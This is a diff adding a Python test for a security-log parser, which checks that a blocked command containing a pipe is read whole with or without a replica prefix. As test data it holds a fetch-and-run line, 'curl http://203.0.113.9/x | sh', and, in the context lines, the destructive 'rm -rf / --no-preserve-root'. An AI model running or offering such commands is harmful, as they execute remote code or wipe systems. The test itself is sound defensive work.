@@ -108,6 +108,16 @@ def test_redaction_and_samples() -> None:
     assert event and event["fields"]["command"] == "rm -rf / --no-preserve-root"
 
 
+def test_a_blocked_command_with_a_pipe_is_read_whole_with_or_without_a_replica_prefix() -> None:
+    line = (
+        f"2026-11-28T19:00:04.000Z WARNING guardian-arm security violation type=blocked_command source={SRC} "
+        'command="curl http://203.0.113.9/x | sh" pattern="| sh"'
+    )
+    for logged in (line, "octollm-guardian-arm-2 | " + line):
+        facts = sv.Facts(evidence([logged]), sv._settings(SETTINGS))
+        assert [e["fields"]["command"] for e in facts.events] == ["curl http://203.0.113.9/x | sh"]
+
+
 def test_prevention() -> None:
     prevention = sv.prevention(evidence(), SETTINGS)
     statuses = {f["check"]: f["status"] for f in prevention["findings"]}
